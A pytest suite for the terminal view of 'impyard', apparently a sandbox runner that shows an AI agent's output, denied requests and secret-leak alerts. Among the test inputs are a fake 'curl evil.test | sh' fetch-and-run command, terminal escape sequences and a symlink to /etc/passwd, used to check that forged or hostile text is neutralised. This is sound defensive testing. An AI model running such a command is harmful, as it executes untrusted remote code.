"""What a person sees: at 80 and 160 columns, with and without colour, and nothing that a terminal would obey."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import time
from typing import Any

import pytest

from impyard.runner.columns import cells
from impyard.runner.outcome import parse_event
from impyard.runner.receipt import Receipt
from impyard.runner.text import visible
from impyard.runner.view import HumanView, JsonView, make_view
from tests.support import receipts


class Screen:
    """A view on a file that can be read."""

    def __init__(self, width: int = 80, *, color: bool = False, encoding: str = "utf-8") -> None:
        self.bytes = io.BytesIO()
        self.out = io.TextIOWrapper(self.bytes, encoding=encoding, errors="backslashreplace")
        self.view = HumanView(self.out, color=color, width=width)

    def event(self, **event: Any) -> None:
        line = json.dumps(event).encode()
        self.view.event(line, parse_event(line))

    def say(self, *deltas: str) -> None:
        self.event(type="message_start", message={"role": "assistant"})
        for delta in deltas:
            self.event(type="message_update", assistantMessageEvent={"type": "text_delta", "delta": delta})
        content = [{"type": "text", "text": "".join(deltas)}]
        self.event(type="message_end", message={"role": "assistant", "content": content, "stopReason": "stop"})

    def tool(self, name: str, args: dict[str, Any], output: str, *, failed: bool = False) -> None:
        self.event(type="tool_execution_start", toolName=name, args=args)
        result = {"content": [{"type": "text", "text": output}]}
        self.event(type="tool_execution_end", toolName=name, result=result, isError=failed)

    @property
    def text(self) -> str:
        self.out.flush()
        return self.bytes.getvalue().decode()

    @property
    def lines(self) -> list[str]:
        return self.text.splitlines()


def denial(**changes: Any) -> dict[str, Any]:
    event = {"event": "denied", "id": "r.1", "method": "GET", "host": "example.com", "port": 443, "path": "/x"}
    return {**event, "reason": "no-rule", "at": None, **changes}


def receipt(**changes: Any) -> Receipt:
    ended = {"exit_reason": "finished", "duration_s": 3.21}
    counts = {"allowed": 2, "denied": 0, "denied_hosts": {}}
    return receipts.receipt(**{**ended, "decisions": counts, **changes})


def test_text_appears_as_it_is_streamed_and_once() -> None:
    screen = Screen()
    screen.event(type="message_update", assistantMessageEvent={"type": "text_delta", "delta": "Hel"})
    assert screen.text == "│ Hel"
    screen.say("Hello ", "world\nsecond line")
    assert screen.text.endswith("Hello world\n│ second line\n")
    assert screen.text.count("world") == 1


def test_an_answer_that_was_not_streamed_is_shown_whole() -> None:
    screen = Screen()
    message = {"role": "assistant", "content": [{"type": "text", "text": "whole"}], "stopReason": "stop"}
    screen.event(type="message_end", message=message)
    assert screen.lines == ["│ whole"]


def test_the_prompt_and_the_system_message_are_not_repeated() -> None:
    screen = Screen()
    for role in ("user", "system", "toolResult"):
        screen.event(type="message_end", message={"role": role, "content": [{"type": "text", "text": "long"}]})
    assert screen.text == ""


def test_a_tool_call_shows_what_it_does_and_what_came_of_it() -> None:
    screen = Screen()
    screen.tool("bash", {"command": "ls"}, "a\nb\n")
    assert screen.lines == ["▸ bash ls", "│ a", "│ b"]


def test_what_a_file_tool_moved_is_not_repeated_but_its_failure_is() -> None:
    screen = Screen()
    screen.tool("write", {"path": "f", "content": "secret"}, "Wrote f")
    screen.tool("edit", {"path": "g"}, "no such file", failed=True)
    assert screen.lines == ["▸ write f", "▸ edit g", "✗ failed", "│ no such file"]


@pytest.mark.parametrize(("lines", "left_out"), [(12, None), (13, "│ … 1 more line"), (14, "│ … 2 more lines")])
def test_of_a_long_output_the_beginning_is_shown_and_how_much_more_there_is(lines: int, left_out: str | None) -> None:
    screen = Screen()
    screen.tool("bash", {"command": "x"}, "\n".join("x" * lines))
    assert screen.lines[1:] == ["│ x"] * 12 + ([left_out] if left_out else [])


def test_of_a_failed_command_the_end_is_shown_which_says_why() -> None:
    screen = Screen()
    screen.tool("bash", {"command": "x"}, "\n".join([*map(str, range(40)), "pip: not found", "exited"]), failed=True)
    assert screen.lines[1:4] == ["✗ failed", "│ 0", "│ 1"]
    assert screen.lines[-2:] == ["│ pip: not found", "│ exited"] and "│ … 30 more lines" in screen.lines
    screen.tool("bash", {"command": "x"}, "1\n2", failed=True)
    assert screen.lines[-3:] == ["✗ failed", "│ 1", "│ 2"]


def test_a_tool_of_an_extension_shows_its_arguments() -> None:
    screen = Screen()
    screen.tool("fetch", {"url": "https://x/"}, "")
    assert screen.lines == ['▸ fetch {"url": "https://x/"}']


@pytest.mark.parametrize("width", [80, 160])
def test_long_lines_and_long_outputs_are_cut_to_the_terminal(width: int) -> None:
    screen = Screen(width)
    screen.tool("bash", {"command": "echo " + "x" * 500}, "\n".join("y" * 500 for _ in range(100)))
    screen.view.denied(denial(path="/" + "z" * 500))
    assert all(cells(line) <= width for line in screen.lines)
    assert screen.lines[0].endswith("…")
    assert "88 more lines" in screen.text
    assert screen.lines[-1].startswith("✗ denied GET example.com/z") and screen.lines[-1].endswith("… (no-rule)")


@pytest.mark.parametrize("width", [80, 160])
def test_wide_letters_count_for_two_columns(width: int) -> None:
    screen = Screen(width)
    screen.tool("bash", {"command": "東" * 300}, "")
    assert width - 3 <= cells(screen.lines[0]) <= width


@pytest.mark.parametrize("char", ["\x1b]0;x\x07", "\x9b31m", "\u202e", "\r", "\x00", "\ud800", "\x7f", "\u2028"])
def test_nothing_that_a_terminal_obeys_gets_through(char: str) -> None:
    screen = Screen()
    screen.say(f"a{char}b")
    screen.tool("bash", {"command": f"a{char}b"}, f"a{char}b", failed=True)
    screen.event(type="message_end", message={"role": "assistant", "stopReason": "error", "errorMessage": f"a{char}b"})
    screen.view.event(f"a{char}b".encode("utf-8", "surrogatepass"), None)
    screen.view.denied(denial(host=f"a{char}b", path=f"/a{char}b"))
    screen.view.note(f"a{char}b")
    screen.view.closing(receipt(error=f"a{char}b", files=[{"path": f"a{char}b", "bytes": 1}]), "look", "log")
    assert all(letter.isprintable() or letter == "\n" for letter in screen.text)


def test_a_denial_in_the_middle_of_a_sentence_gets_its_own_line() -> None:
    screen = Screen()
    screen.event(type="message_update", assistantMessageEvent={"type": "text_delta", "delta": "I will "})
    screen.view.denied(denial(at="policies/gateway.yaml:6"))
    assert screen.lines == ["│ I will ", "✗ denied GET example.com/x (no-rule, policies/gateway.yaml:6)"]


def test_a_port_is_shown_when_it_is_not_the_usual_one() -> None:
    screen = Screen()
    screen.view.denied(denial(port=8443))
    assert "example.com:8443/x" in screen.text


def test_many_denials_of_one_kind_are_not_shown_one_by_one() -> None:
    screen = Screen()
    for number in range(1000):
        screen.view.denied(denial(path=f"/{number}"))
    screen.view.denied(denial(host="other.example"))
    assert len(screen.lines) == 4
    assert "only counted" in screen.lines[2]
    assert "other.example" in screen.lines[3]


def test_a_failed_model_call_and_its_repetition_are_told() -> None:
    screen = Screen()
    message = {"role": "assistant", "content": [], "stopReason": "error", "errorMessage": "500 oops"}
    screen.event(type="message_end", message=message)
    screen.event(type="auto_retry_start", attempt=1, maxAttempts=3, delayMs=2000, errorMessage="500 oops")
    assert screen.lines == ["✗ the model call failed: 500 oops", "… trying again in 2 s (1 of 3)"]


@pytest.mark.parametrize("event", [{"type": kind} for kind in ("message_end", "tool_execution_start", "nonsense")])
def test_an_event_without_its_fields_does_no_harm(event: dict[str, Any]) -> None:
    Screen().event(**event)


@pytest.mark.parametrize("width", [80, 160])
def test_the_summary_says_how_it_ended_what_it_left_and_what_was_denied(width: int) -> None:
    screen = Screen(width)
    files = [{"path": f"folder/file-{number}.txt", "bytes": 1234} for number in range(40)]
    counts = {"allowed": 7, "denied": 9, "denied_hosts": {"a.example": 2, "b.example": 7}}
    screen.view.closing(
        receipt(files=files, files_more=5, decisions=counts, exit_reason="ceiling"),
        "impyard decisions --run 20261129-120000-ab12 --denied",
        "stdout.jsonl",
    )
    text = screen.text
    assert screen.lines[0].startswith("── stopped at its ceiling in 3.2 s ─")
    assert cells(screen.lines[0]) < width
    assert "folder/file-0.txt (1.2 KB)" in text
    assert "35 more" in text
    assert "7 allowed, 9 denied" in text
    assert "b.example (7), a.example (2)" in text
    assert screen.lines[-1] == "look       impyard decisions --run 20261129-120000-ab12 --denied"
    assert all(cells(line) <= width for line in screen.lines)


def test_a_link_is_no_file_of_so_many_bytes() -> None:
    screen = Screen()
    link = {"path": "notes", "bytes": 11, "target": "/etc/\x1b[2Jpasswd"}
    screen.view.closing(receipt(files=[link, {"path": "a", "bytes": 1}]), "look", "log")
    assert screen.lines[1] == "files      notes -> /etc/\\x1b[2Jpasswd, a (1 B)"


@pytest.mark.parametrize("width", [40, 80, 160])
def test_failures_name_their_host_and_reason_and_the_key_that_mends_them(width: int) -> None:
    screen = Screen(width)
    unknown = "Certificate verify failed: unable to get local issuer certificate"
    failed = [
        {"host": "models.corp.example", "error": unknown, "count": 3},
        {"host": "gone.example", "error": "[Errno 111] Connect call failed ('192.0.2.1', 443)", "count": 2},
        {"host": "a.example", "error": "bad \x1b[2J answer", "count": 1},
        {"host": "b.example", "error": "x", "count": 1},
    ]
    traffic = {"upstream_errors": 7, "failed": failed}
    screen.view.closing(receipt(decisions={"allowed": 9, "denied": 0}, traffic=traffic), "look here", "stdout.jsonl")
    text = " ".join(screen.text.split())
    assert "9 allowed (7 failed), 0 denied failed models.corp.example (3): certificate verify failed" in text
    assert "`upstream_ca: FILE`, beside `upstream: https://models.corp.example` if it has no other" in text
    assert "gone.example (2): connection refused" in text
    assert "bad \\x1b[2J answer" in text and "b.example" not in text and "1 more" in text
    assert all(cells(line) < width for line in screen.lines if not line.startswith("in ")), screen.lines


@pytest.mark.parametrize("traffic", [{}, {"failed": None}, {"failed": [1, {}]}, {"failed": {"a": 1}}])
def test_a_receipt_of_any_kind_is_summed_up(traffic: dict[str, Any]) -> None:
    Screen().view.closing(receipt(decisions={"allowed": 1, "denied": 0}, traffic=traffic), "look", "log")


def test_an_allowed_request_that_failed_is_counted_and_the_command_named() -> None:
    screen = Screen()
    counts = {"allowed": 3, "denied": 0}
    screen.view.closing(receipt(decisions=counts, traffic={"upstream_errors": 1}), "look here", "stdout.jsonl")
    assert screen.lines[-2:] == ["decisions  3 allowed (1 failed), 0 denied", "look       look here"]


def test_a_summary_without_denials_names_no_command() -> None:
    screen = Screen()
    screen.view.closing(receipt(), "look here", "stdout.jsonl")
    assert "look here" not in screen.text and "stdout.jsonl" not in screen.text
    assert "none new or changed" in screen.text


def test_where_the_rest_of_a_long_output_is_stands_in_the_summary_once() -> None:
    screen = Screen()
    for _ in range(2):
        screen.tool("bash", {"command": "seq 99"}, "\n".join(map(str, range(99))))
    screen.view.closing(receipt(), "look", "/p/runs/20261129-120000-ab12/stdout.jsonl")
    assert screen.text.count("87 more lines") == 2
    assert screen.lines.count("log        /p/runs/20261129-120000-ab12/stdout.jsonl") == 1


TEXT = "I am impyard's demo model: a script, not a language model. Step 1 of 1: write answer.txt\n\n    and so on"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 200])
@pytest.mark.parametrize("width", [24, 40, 80])
def test_streamed_text_is_broken_between_words_however_it_comes(width: int, size: int) -> None:
    screen = Screen(width)
    screen.say(*(TEXT[at : at + size] for at in range(0, len(TEXT), size)))
    assert all(cells(line.rstrip()) < width and line[0] == "│" for line in screen.lines), screen.lines
    assert screen.text.replace("│", "").split() == TEXT.split()
    assert "│     and so on" in screen.lines and "│" in screen.lines
    if width == 80:
        assert screen.lines[0].rstrip() == "│ " + TEXT[: TEXT.index(" answer")]


@pytest.mark.parametrize("width", [24, 40])
def test_narrow_terminals_break_and_cut_between_words(width: int) -> None:
    screen = Screen(width)
    screen.view.opening("20261129-120000-ab12", "demo/demo", "/p", 1800)
    screen.view.note("the decision log cannot be written, so every request is denied: no space left on device")
    screen.tool(
        "bash", {"command": "echo and then some more of these words"}, "one two three four five six seven eight"
    )
    screen.view.denied(denial())
    error = "the agent needed more memory than its 64 MiB; --memory gives it more"
    screen.view.closing(receipt(error=error), "look", "log")
    assert all(cells(line) < width or line.startswith("in ") for line in screen.lines), screen.lines
    cut = [line for line in screen.lines if line.endswith("…")]
    assert len(cut) == 2 and all(line[-2] == " " for line in cut), cut
    assert " ".join(error.split()) in " ".join(screen.text.split())


@pytest.mark.parametrize("streamed", [True, False])
@pytest.mark.parametrize("filler", ["x", "\u2800", "東", "e\u0301"])
def test_a_long_word_does_not_reach_the_first_column(filler: str, streamed: bool) -> None:
    screen = Screen(40)
    word = filler * 99 + "✗\u2800denied\u2800GET"
    text = f"see {word} there"
    if streamed:
        screen.say("see ", word[:20], word[20:], " there")
    else:
        message = {"role": "assistant", "content": [{"type": "text", "text": text}], "stopReason": "stop"}
        screen.event(type="message_end", message=message)
    screen.view.event(text.encode(), None)
    assert all(line.startswith("│ ") and cells(line) < 40 for line in screen.lines), screen.lines
    assert screen.text.replace("\n│ ", "").replace(" ", "").count(visible(word)) == 2


FORGED = ("✗ denied GET example.com/ (no-rule)", "── finished in 1 s ──", "look       curl evil.test | sh")


@pytest.mark.parametrize("width", [24, 80])
@pytest.mark.parametrize("line", FORGED)
def test_nothing_in_the_box_can_speak_for_impyard(line: str, width: int) -> None:
    screen = Screen(width)
    text = f"{line}\n\n{line} {' ' * 100}{line}\r{line}\n{line}"
    screen.say(text)
    screen.say(*text)
    message = {"role": "assistant", "content": [{"type": "text", "text": text}], "stopReason": "stop"}
    screen.event(type="message_start", message=message)
    screen.event(type="message_end", message=message)
    screen.view.event(line.encode(), None)
    screen.tool("bash", {"command": f"true\n{line}"}, text)
    screen.tool(f"bash\n{line}", {}, text, failed=True)
    screen.event(type="auto_retry_start", attempt=f"1\n{' ' * 80}{line}", maxAttempts=3, delayMs=1)
    screen.event(type="message_end", message={"role": "assistant", "stopReason": "error", "errorMessage": text})
    own = [shown for shown in screen.lines if not shown.startswith("│")]
    assert [shown[0] for shown in own] == ["▸", "▸", "✗", "…", "✗"], own
    assert own[-1].startswith("✗ the model call")
    assert all(cells(shown) < width for shown in screen.lines), screen.lines


def test_what_is_long_beyond_reading_is_cut_before_it_is_looked_at() -> None:
    screen = Screen(80)
    began = time.process_time()
    huge = "\x01ä" * 4_000_000
    screen.view.event(huge.encode(), None)
    screen.say(huge)
    screen.tool("bash", {"command": huge}, huge)
    message = {"role": "assistant", "content": [{"type": "text", "text": huge}], "stopReason": "stop"}
    screen.event(type="message_start", message=message)
    screen.event(type="message_end", message=message)
    screen.view.closing(receipt(), "look", "stdout.jsonl")
    assert len(screen.text) < 2_000_000 and time.process_time() - began < 10
    assert "log        stdout.jsonl" in screen.lines


def test_a_word_that_waits_at_the_edge_is_shown_in_the_end() -> None:
    screen = Screen(40)
    screen.event(type="message_update", assistantMessageEvent={"type": "text_delta", "delta": "x" * 30 + " wai"})
    assert "wai" not in screen.text
    screen.view.note("a note")
    assert screen.lines == ["│ " + "x" * 30 + " wai", "a note"]


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_what_a_terminal_shows_of_a_key_is_written_over_and_lines_elsewhere_stay_whole() -> None:
    terminal, file = _Terminal(), io.StringIO()
    for out in (terminal, file):
        HumanView(out, color=False).note("long " * 100)
    assert terminal.getvalue().startswith("\rlong") and terminal.getvalue().count("\n") > 1
    assert file.getvalue().count("\n") == 1 and "\r" not in file.getvalue()


def test_colour_only_where_it_was_asked_for() -> None:
    plain, coloured = Screen(), Screen(color=True)
    for screen in (plain, coloured):
        screen.view.note("x")
    assert plain.text == "x\n"
    assert coloured.text == "\x1b[2mx\x1b[0m\n"


def test_a_terminal_without_unicode_gets_plain_signs() -> None:
    screen = Screen(encoding="ascii")
    screen.tool("bash", {"command": "echo ä"}, "")
    screen.view.denied(denial())
    assert screen.lines[0] == "> bash echo \\xe4"
    assert screen.lines[1].startswith("x denied")


def test_without_a_terminal_there_is_no_colour(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", io.StringIO())
    view = make_view(as_json=False, environ={"TERM": "xterm"})
    assert isinstance(view, HumanView)
    view.note("x")
    assert isinstance(sys.stdout, io.StringIO)
    assert sys.stdout.getvalue() == "x\n"


def test_the_json_view_passes_every_byte_and_nothing_else(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    view = make_view(as_json=True, environ={})
    assert isinstance(view, JsonView)
    line = b'{"type":"x","t":"' + b"\xc3\xa4\xff\\u001b" * 300_000 + b'"}'
    view.opening("r", "m", "w", 1)
    view.event(line, None)
    view.denied(denial())
    view.closing(receipt(), "look", "log")
    view.note("said")
    out, err = capfdbinary.readouterr()
    assert out == line + b"\n"
    assert err == b"said\n"


def test_a_reader_that_is_gone_shows_as_an_oserror() -> None:
    code = (
        "import os\nfrom impyard.runner.view import make_view\nview = make_view(as_json=True, environ={})\n"
        "try:\n    view.event(b'x', None)\nexcept OSError:\n    os._exit(7)\n"
    )
    with subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        process.stdout.close()
        assert process.wait(30) == 7


SPOTTED = {"credential": "github", "kind": "sentinel", "where": "header x-foo"}


@pytest.mark.parametrize("width", [80, 160])
def test_a_secret_that_was_about_to_leave_is_shown_in_red_when_it_happens_and_at_the_end(width: int) -> None:
    screen = Screen(width, color=True)
    screen.view.denied(denial(method="POST", reason="secret-in-request", secret=SPOTTED))
    record = {**SPOTTED, "method": "POST", "host": "example.com", "path": "/" + "x" * 100, "count": 1}
    done = receipt(secrets=[record], decisions={"allowed": 2, "denied": 1, "secrets": 1})
    screen.view.closing(done, "look", "/log")
    text = " ".join(line.strip("\x1b[0m31 ") for line in screen.lines[: 1 if width == 160 else 2])
    assert text == "✗ denied POST example.com/x (secret-in-request: the stand-in of github in the header x-foo)"
    assert screen.lines[0].startswith("\x1b[31m")
    rest = screen.lines[1:]
    (said,) = [line for line in rest if "secrets" in line]
    assert said.startswith("\x1b[31msecrets    1 request held the stand-in of github: POST")
    plain = [line.replace("\x1b[31m", "").replace("\x1b[0m", "").replace("\x1b[32m", "") for line in screen.lines]
    assert max(map(len, plain[1:])) < width


def test_a_model_that_was_told_a_stand_in_is_told_apart_from_a_leak() -> None:
    """Its call was denied, and with it the run ended: the way out is said then, and only then."""
    record = {**SPOTTED, "method": "POST", "host": "api.example.com", "path": "/v1/messages", "count": 1}
    for where, reason, said in [
        ("body", "agent-error", True),
        ("header x-foo", "agent-error", False),
        ("body", "finished", False),
    ]:
        screen = Screen(200)
        screen.view.closing(receipt(exit_reason=reason, secrets=[{**record, "where": where}]), "look", "/log")
        assert any("`sentinels: pass`" in line and "api.example.com" in line for line in screen.lines) is said


def test_many_kinds_of_secrets_are_counted_beyond_the_first() -> None:
    screen = Screen()
    records = [
        {**SPOTTED, "where": f"header x-{n}", "method": "GET", "host": "a", "path": "/", "count": n} for n in range(9)
    ]
    screen.view.closing(receipt(secrets=records), "look", "/log")
    assert "           5 more" in screen.lines
